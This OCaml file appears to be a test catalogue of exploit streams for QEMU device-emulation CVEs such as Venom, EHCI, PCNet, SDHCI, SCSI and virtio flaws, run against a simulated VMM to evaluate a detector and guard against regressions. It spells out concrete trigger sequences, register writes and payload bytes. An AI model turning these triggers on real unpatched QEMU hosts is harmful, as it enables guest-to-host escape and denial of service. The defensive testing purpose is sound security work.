type t = {
  cve : string;
  device : string;
  qemu_version : Devices.Qemu_version.t;
  fixed_in : Devices.Qemu_version.t;
  expected : Sedspec.Checker.strategy list;
  detectable : bool;
  description : string;
  setup : Vmm.Machine.t -> unit;
  run : Vmm.Machine.t -> unit;
  ground_check : Vmm.Machine.t -> string list;
}

type effects = {
  oob_writes : int;
  oob_reads : int;
  traps : (string * Interp.Event.trap) list;
  extra : string list;
}

let succeeded e =
  e.oob_writes > 0 || e.oob_reads > 0 || e.traps <> [] || e.extra <> []

(* Exploit streams bail out with [Exit] when an access is vetoed. *)
let run_stream m attack = try attack.run m with Exit -> ()

let observe_effects m ~device thunk attack =
  let oob_writes = ref 0 and oob_reads = ref 0 in
  Vmm.Machine.clear_traps m;
  Interp.with_hooks (Vmm.Machine.interp_of m device)
    {
      Interp.silent_hooks with
      Interp.on_oob =
        (fun e -> if e.Interp.Event.oob_write then incr oob_writes else incr oob_reads);
    }
    thunk;
  {
    oob_writes = !oob_writes;
    oob_reads = !oob_reads;
    traps = Vmm.Machine.last_traps m;
    extra = attack.ground_check m;
  }

let pp_effects ppf e =
  Format.fprintf ppf "oob-writes=%d oob-reads=%d traps=[%s]%s" e.oob_writes
    e.oob_reads
    (String.concat "; "
       (List.map (fun (_, t) -> Interp.Event.trap_to_string t) e.traps))
    (if e.extra = [] then "" else " " ^ String.concat ", " e.extra)

(* ------------------------------------------------------------------ *)
(* FDC: CVE-2015-3456 "Venom"                                          *)

let fdc_data_port = Int64.add Devices.Fdc.io_base 5L

let venom =
  {
    cve = "CVE-2015-3456";
    device = Devices.Fdc.name;
    qemu_version = Devices.Qemu_version.v 2 3 0;
    fixed_in = Devices.Fdc.venom_fixed_in;
    expected = [ Sedspec.Checker.Parameter_check; Sedspec.Checker.Conditional_jump_check ];
    detectable = true;
    description =
      "DRIVE SPECIFICATION parameter bytes grow data_pos past the 512-byte FIFO";
    setup =
      (fun m ->
        let d = Workload.Fdc_driver.create m in
        ignore (Workload.Fdc_driver.reset d);
        ignore (Workload.Fdc_driver.recalibrate d ~drive:0);
        ignore (Workload.Fdc_driver.sense_interrupt d));
    run =
      (fun m ->
        (match Workload.Io.outb m fdc_data_port 0x8E with
        | Workload.Io.R_ok _ -> ()
        | _ -> raise Exit);
        for _ = 1 to 600 do
          match Workload.Io.outb m fdc_data_port 0x01 with
          | Workload.Io.R_ok _ -> ()
          | _ -> raise Exit
        done);
    ground_check = (fun _ -> []);
  }

(* ------------------------------------------------------------------ *)
(* EHCI: CVE-2020-14364                                                *)

let ehci_dbuf = 0x6000L

let cve_2020_14364 =
  {
    cve = "CVE-2020-14364";
    device = Devices.Ehci.name;
    qemu_version = Devices.Qemu_version.v 5 1 0;
    fixed_in = Devices.Ehci.cve_2020_14364_fixed_in;
    expected = [ Sedspec.Checker.Parameter_check; Sedspec.Checker.Indirect_jump_check ];
    detectable = true;
    description =
      "SETUP wLength > sizeof(data_buf); an OUT token overwrites setup_len, setup_index and the irq pointer";
    setup =
      (fun m ->
        let d = Workload.Ehci_driver.create m in
        ignore (Workload.Ehci_driver.reset_port d);
        ignore (Workload.Ehci_driver.set_address d 5);
        ignore (Workload.Ehci_driver.get_descriptor d ~dtype:1 ~length:18));
    run =
      (fun m ->
        let d = Workload.Ehci_driver.create m in
        let len = Devices.Ehci.data_buf_size + 80 in
        (* SET_CONFIGURATION with an oversized wLength. *)
        (match
           Workload.Ehci_driver.control_setup d ~bm:0x00 ~req:9 ~value:1
             ~index:0 ~length:len
         with
        | Workload.Io.R_ok _ -> ()
        | _ -> raise Exit);
        (* Stage the payload: the tail bytes land on the irq pointer. *)
        let payload = Bytes.make len '\x41' in
        Vmm.Guest_mem.blit_in (Vmm.Machine.ram m) ehci_dbuf payload;
        (match
           Workload.Ehci_driver.submit d ~pid:Devices.Ehci.pid_out ~len
             ~buf:ehci_dbuf
         with
        | Workload.Io.R_ok _ -> ()
        | _ -> raise Exit);
        (* Second instance: another token with the corrupted index. *)
        ignore
          (Workload.Ehci_driver.submit d ~pid:Devices.Ehci.pid_out ~len:16
             ~buf:ehci_dbuf));
    ground_check = (fun _ -> []);
  }

(* ------------------------------------------------------------------ *)
(* PCNet: CVE-2015-7504, CVE-2015-7512, CVE-2016-7909                  *)

let pcnet_setup ?(mode = 0) m =
  let d = Workload.Pcnet_driver.create m in
  ignore (Workload.Pcnet_driver.reset d);
  ignore (Workload.Pcnet_driver.init d ~mode ());
  ignore (Workload.Pcnet_driver.start d);
  ignore (Workload.Pcnet_driver.transmit d [ Bytes.make 128 'b' ]);
  Workload.Pcnet_driver.ack_interrupts d

let cve_2015_7504 =
  {
    cve = "CVE-2015-7504";
    device = Devices.Pcnet.name;
    qemu_version = Devices.Qemu_version.v 2 4 0;
    fixed_in = Devices.Pcnet.cve_2015_750x_fixed_in;
    expected = [ Sedspec.Checker.Indirect_jump_check ];
    detectable = true;
    description =
      "loopback FCS append at buffer[4096] overwrites the irq function pointer";
    setup = (fun m -> pcnet_setup ~mode:4 m);
    run =
      (fun m ->
        (* The PCNet driver tracks ring indices, so the exploit brings the
           device back to a known ring position first (all trained). *)
        let d = Workload.Pcnet_driver.create m in
        ignore (Workload.Pcnet_driver.reset d);
        ignore (Workload.Pcnet_driver.init d ~mode:4 ());
        ignore (Workload.Pcnet_driver.start d);
        ignore
          (Workload.Pcnet_driver.transmit d
             [ Bytes.make Devices.Pcnet.buffer_size '\xCC' ]));
    ground_check = (fun _ -> []);
  }

let cve_2015_7512 =
  {
    cve = "CVE-2015-7512";
    device = Devices.Pcnet.name;
    qemu_version = Devices.Qemu_version.v 2 4 0;
    fixed_in = Devices.Pcnet.cve_2015_750x_fixed_in;
    expected = [ Sedspec.Checker.Parameter_check; Sedspec.Checker.Indirect_jump_check ];
    detectable = true;
    description =
      "chained un-ENP'd fragments accumulate xmit_pos past the 4096-byte frame buffer";
    setup =
      (fun m ->
        pcnet_setup ~mode:0 m;
        (* also train a benign multi-fragment frame *)
        let d = Workload.Pcnet_driver.create m in
        ignore (Workload.Pcnet_driver.transmit d [ Bytes.make 600 'c'; Bytes.make 600 'd' ]));
    run =
      (fun m ->
        let d = Workload.Pcnet_driver.create m in
        ignore (Workload.Pcnet_driver.reset d);
        ignore (Workload.Pcnet_driver.init d ~mode:0 ());
        ignore (Workload.Pcnet_driver.start d);
        ignore
          (Workload.Pcnet_driver.transmit d
             [
               Bytes.make 1518 '\xDD';
               Bytes.make 1518 '\xDD';
               Bytes.make 1518 '\xDD';
             ]));
    ground_check = (fun _ -> []);
  }

let cve_2016_7909 =
  {
    cve = "CVE-2016-7909";
    device = Devices.Pcnet.name;
    qemu_version = Devices.Qemu_version.v 2 6 0;
    fixed_in = Devices.Pcnet.cve_2016_7909_fixed_in;
    expected = [ Sedspec.Checker.Conditional_jump_check ];
    detectable = true;
    description =
      "receive ring length programmed to zero makes the descriptor scan loop forever";
    setup = (fun m -> pcnet_setup ~mode:0 m);
    run =
      (fun m ->
        let d = Workload.Pcnet_driver.create m in
        ignore (Workload.Pcnet_driver.reset d);
        ignore (Workload.Pcnet_driver.init d ~mode:0 ());
        ignore (Workload.Pcnet_driver.start d);
        (* Take every RX descriptor away from the device... *)
        let g = Vmm.Machine.ram m in
        for i = 0 to 7 do
          Vmm.Guest_mem.write g
            (Int64.add 0x2000L (Int64.of_int ((i * 16) + 4)))
            Devir.Width.W32 0L
        done;
        (* ...and make the ring length zero (the vulnerable CSR write). *)
        (match Workload.Pcnet_driver.write_csr d 76 0 with
        | Workload.Io.R_ok _ -> ()
        | _ -> raise Exit);
        ignore (Workload.Pcnet_driver.receive d (Bytes.make 64 'e')));
    ground_check = (fun _ -> []);
  }

(* ------------------------------------------------------------------ *)
(* SDHCI: CVE-2021-3409                                                *)

let sdhci_reg off = Int64.add Devices.Sdhci.mmio_base (Int64.of_int off)

let cve_2021_3409 =
  {
    cve = "CVE-2021-3409";
    device = Devices.Sdhci.name;
    qemu_version = Devices.Qemu_version.v 5 2 0;
    fixed_in = Devices.Sdhci.cve_2021_3409_fixed_in;
    expected = [ Sedspec.Checker.Parameter_check ];
    detectable = true;
    description =
      "blksize shrunk mid-transfer: blksize - data_count underflows and data_count runs away";
    setup =
      (fun m ->
        let d = Workload.Sdhci_driver.create m in
        ignore (Workload.Sdhci_driver.init_card d);
        ignore (Workload.Sdhci_driver.write_block d ~lba:1 (Bytes.make 512 'f')));
    run =
      (fun m ->
        let d = Workload.Sdhci_driver.create m in
        (match Workload.Sdhci_driver.set_blksize d 0x200 with
        | Workload.Io.R_ok _ -> ()
        | _ -> raise Exit);
        (match Workload.Sdhci_driver.raw_command d ~idx:24 ~arg:9 with
        | Workload.Io.R_ok _ -> ()
        | _ -> raise Exit);
        let bdata v = Workload.Io.mmio_w32 m (sdhci_reg 0x20) (Int64.of_int v) in
        for _ = 1 to 0x80 do
          match bdata 0x55 with Workload.Io.R_ok _ -> () | _ -> raise Exit
        done;
        (* Shrink the block size while the transfer is active. *)
        (match Workload.Sdhci_driver.set_blksize d 0x40 with
        | Workload.Io.R_ok _ -> ()
        | _ -> raise Exit);
        for _ = 1 to 8192 do
          match bdata 0x66 with Workload.Io.R_ok _ -> () | _ -> raise Exit
        done);
    ground_check = (fun _ -> []);
  }

(* ------------------------------------------------------------------ *)
(* SCSI/ESP: CVE-2015-5158, CVE-2016-4439, CVE-2016-1568 analog        *)

let scsi_reg off = Int64.add Devices.Scsi.mmio_base (Int64.of_int off)
let scsi_dma_desc = 0x7000L

(* Raw SELATN-with-DMA: stage [count][bytes...] ourselves so the exploit
   controls the DMA length exactly. *)
let raw_select_dma m ~count bytes_ =
  let g = Vmm.Machine.ram m in
  Vmm.Guest_mem.write g scsi_dma_desc Devir.Width.W32 (Int64.of_int count);
  List.iteri
    (fun i b ->
      Vmm.Guest_mem.write_byte g
        (Int64.add scsi_dma_desc (Int64.of_int (4 + i)))
        b)
    bytes_;
  match Workload.Io.mmio_w32 m (scsi_reg 8) scsi_dma_desc with
  | Workload.Io.R_ok _ -> Workload.Io.mmio_w32 m (scsi_reg 3) 0xC1L
  | r -> r

let scsi_setup m =
  let d = Workload.Scsi_driver.create m in
  ignore (Workload.Scsi_driver.reset d);
  ignore (Workload.Scsi_driver.test_unit_ready d);
  ignore (Workload.Scsi_driver.inquiry d ~dma:true)

let cve_2015_5158 =
  {
    cve = "CVE-2015-5158";
    device = Devices.Scsi.name;
    qemu_version = Devices.Qemu_version.v 2 4 0;
    fixed_in = Devices.Scsi.cve_2015_5158_fixed_in;
    expected = [ Sedspec.Checker.Conditional_jump_check ];
    detectable = true;
    description =
      "reserved-group opcode makes cdb_len the transferred length; parsing overflows cdb into disk_len";
    setup = scsi_setup;
    run =
      (fun m ->
        let junk = List.init 18 (fun _ -> 0xFF) in
        (match raw_select_dma m ~count:20 ((0x80 :: 0xE3 :: junk)) with
        | Workload.Io.R_ok _ -> ()
        | _ -> raise Exit);
        (* The corrupted disk_len drives TRANSFER INFO into the defensive
           branch. *)
        ignore (Workload.Io.mmio_w32 m (scsi_reg 3) 0x10L));
    ground_check = (fun _ -> []);
  }

let cve_2016_4439 =
  {
    cve = "CVE-2016-4439";
    device = Devices.Scsi.name;
    qemu_version = Devices.Qemu_version.v 2 6 0;
    fixed_in = Devices.Scsi.cve_2016_4439_fixed_in;
    expected = [ Sedspec.Checker.Conditional_jump_check ];
    detectable = true;
    description =
      "get_cmd DMA length unchecked: 32 bytes into the 16-byte cmdbuf corrupt ti_size/scsi_state";
    setup = scsi_setup;
    run =
      (fun m ->
        (* A valid TUR CDB followed by 16 corrupting bytes. *)
        let cdb = [ 0x80; 0x00; 0x00; 0x00; 0x00; 0x00; 0x00 ] in
        let junk = List.init 25 (fun _ -> 0xFF) in
        (match raw_select_dma m ~count:32 (cdb @ junk) with
        | Workload.Io.R_ok _ -> ()
        | _ -> raise Exit);
        ignore (Workload.Io.mmio_w32 m (scsi_reg 3) 0x10L));
    ground_check = (fun _ -> []);
  }

let cve_2016_1568 =
  {
    cve = "CVE-2016-1568";
    device = Devices.Scsi.name;
    qemu_version = Devices.Qemu_version.v 2 4 0;
    fixed_in = Devices.Scsi.cve_2016_1568_fixed_in;
    expected = [];
    detectable = false;
    description =
      "use-after-free analog: ICCS replayed after MSGACC re-runs a completion for a dead request (paper's miss)";
    setup =
      (fun m ->
        let d = Workload.Scsi_driver.create m in
        ignore (Workload.Scsi_driver.reset d);
        ignore (Workload.Scsi_driver.test_unit_ready d));
    run =
      (fun m ->
        let d = Workload.Scsi_driver.create m in
        (* The request is gone; the stale completion callback runs again. *)
        ignore (Workload.Scsi_driver.iccs d));
    ground_check =
      (fun m ->
        let arena = Interp.arena (Vmm.Machine.interp_of m Devices.Scsi.name) in
        let completions = Devir.Arena.get arena "completions" in
        let active = Devir.Arena.get arena "req_active" in
        if Int64.compare completions 1L > 0 && active = 0L then
          [ "double-completion" ]
        else []);
  }

(* ------------------------------------------------------------------ *)
(* Virtio ring: CVE-2019-14835 analog                                  *)

let virtio_setup m =
  let d = Workload.Virtio_driver.create m in
  ignore (Workload.Virtio_driver.init d);
  ignore (Workload.Virtio_driver.send d [ Bytes.make 128 'v' ]);
  ignore (Workload.Virtio_driver.poll_used d);
  ignore (Workload.Virtio_driver.isr_ack d)

let cve_2019_14835 =
  {
    cve = "CVE-2019-14835";
    device = Devices.Virtio_ring.name;
    qemu_version = Devices.Qemu_version.v 4 0 0;
    fixed_in = Devices.Virtio_ring.cve_2019_14835_fixed_in;
    expected = [ Sedspec.Checker.Parameter_check ];
    detectable = true;
    description =
      "descriptor length never bounded against the staging buffer: a 1536-byte chain overflows the 1024-byte vq_buf";
    setup = virtio_setup;
    run =
      (fun m ->
        let d = Workload.Virtio_driver.create m in
        if not (Workload.Virtio_driver.init d) then raise Exit;
        (* One oversized guest-readable descriptor: cur_len + d_len runs
           past the staging buffer, like the vhost overflow. *)
        Workload.Virtio_driver.write_desc d 0
          ~addr:Workload.Virtio_driver.data_bufs
          ~len:(Devices.Virtio_ring.buf_size + 512)
          ~flags:0 ~next:0;
        ignore (Workload.Virtio_driver.publish d 0));
    ground_check = (fun _ -> []);
  }

(* ------------------------------------------------------------------ *)
(* Locator-grown candidate attacks.

   The cross-version deviation locator (the locate tool) mutates the
   catalogued exploit streams and minimizes any input whose protected
   replay diverges across a CVE's version pair.  The two entries below
   are such grown witnesses promoted to catalogue entries: each
   reproduces its parent CVE's defect through a register stream distinct
   from the hand-written PoC, directly from machine boot (no setup
   traffic), so the protected-replay loops pin them as regressions. *)

let grown_step m ~device ~handler params =
  try ignore (Vmm.Machine.inject m ~device ~handler ~params) with Exit -> ()

let grown_hex s =
  let n = String.length s / 2 in
  Bytes.init n (fun i -> Char.chr (int_of_string ("0x" ^ String.sub s (2 * i) 2)))

(* locate --cve CVE-2021-3409 --seed 21: the shrink-mid-transfer trigger
   with the FIFO one byte past the shrunken block size, so the very next
   buffer-data store computes tx_remaining = 64 - 65 and wraps. *)
let grown_2021_3409 =
  let wreg m off data =
    grown_step m ~device:Devices.Sdhci.name ~handler:"mmio_write"
      [
        ("addr", Int64.add Devices.Sdhci.mmio_base (Int64.of_int off));
        ("offset", Int64.of_int off);
        ("size", 4L);
        ("data", data);
      ]
  in
  {
    cve = "GROWN-2021-3409";
    device = Devices.Sdhci.name;
    qemu_version = Devices.Qemu_version.v 5 2 0;
    fixed_in = Devices.Sdhci.cve_2021_3409_fixed_in;
    expected = [ Sedspec.Checker.Parameter_check ];
    detectable = true;
    description =
      "locator-grown 69-step stream: blksize shrunk one byte short of the FIFO fill wraps tx_remaining";
    setup = (fun _ -> ());
    run =
      (fun m ->
        wreg m 0xe 0x700L;
        wreg m 0x4 0x200L;
        wreg m 0xe 0x1800L;
        for _ = 1 to 44 do
          wreg m 0x20 0x66L
        done;
        for _ = 1 to 20 do
          wreg m 0x20 0x55L
        done;
        wreg m 0x4 0x40L;
        wreg m 0x20 0x66L);
    ground_check =
      (fun m ->
        (* The wrapped subtraction leaves a ~2^32 residual where the
           patched model keeps tx_remaining below one block. *)
        let arena = Interp.arena (Vmm.Machine.interp_of m Devices.Sdhci.name) in
        if Int64.compare (Devir.Arena.get arena "tx_remaining") 0xFFFFL > 0 then
          [ "tx_remaining-underflow" ]
        else []);
  }

(* locate --cve CVE-2015-7512 --seed 11: raw CSR pokes stand in for the
   driver — an init block at 0x1004, three OWNed descriptors whose chained
   un-ENP'd fragments overrun the 4096-byte frame buffer and reach the
   irq pointer (wild jump on the unpatched model). *)
let grown_2015_7512 =
  let wcsr m off data =
    grown_step m ~device:Devices.Pcnet.name ~handler:"write"
      [
        ("addr", Int64.add Devices.Pcnet.io_base (Int64.of_int off));
        ("offset", Int64.of_int off);
        ("size", 2L);
        ("data", data);
      ]
  in
  {
    cve = "GROWN-2015-7512";
    device = Devices.Pcnet.name;
    qemu_version = Devices.Qemu_version.v 2 4 0;
    fixed_in = Devices.Pcnet.cve_2015_750x_fixed_in;
    (* The overrun clobbers the irq pointer, so the stream both exceeds
       the parameter envelope and lands a wild indirect jump. *)
    expected =
      [ Sedspec.Checker.Parameter_check; Sedspec.Checker.Indirect_jump_check ];
    detectable = true;
    description =
      "locator-grown raw-CSR stream: three OWNed un-ENP'd descriptors overrun the frame buffer into the irq pointer";
    setup = (fun _ -> ());
    run =
      (fun m ->
        let g = Vmm.Machine.ram m in
        Vmm.Guest_mem.blit_in g 0x1004L
          (grown_hex "00200000003000000800000008000000");
        wcsr m 0x12 0x1L;
        wcsr m 0x10 0x1000L;
        wcsr m 0x12 0x0L;
        wcsr m 0x10 0x1L;
        wcsr m 0x10 0x42L;
        Vmm.Guest_mem.blit_in g 0x3000L
          (grown_hex "0000040000000080ee05000000000000");
        Vmm.Guest_mem.blit_in g 0x3010L
          (grown_hex "0010040000000080ee05000000000000");
        Vmm.Guest_mem.blit_in g 0x3020L
          (grown_hex "0020040000000081ee05000000000000");
        wcsr m 0x10 0x48L);
    ground_check = (fun _ -> []);
  }

let all =
  [
    venom;
    cve_2020_14364;
    cve_2015_7504;
    cve_2015_7512;
    cve_2016_7909;
    cve_2021_3409;
    cve_2015_5158;
    cve_2016_4439;
    cve_2016_1568;
    cve_2019_14835;
    grown_2021_3409;
    grown_2015_7512;
  ]

let find cve = List.find (fun a -> a.cve = cve) all

let version_pair a = (a.qemu_version, a.fixed_in)
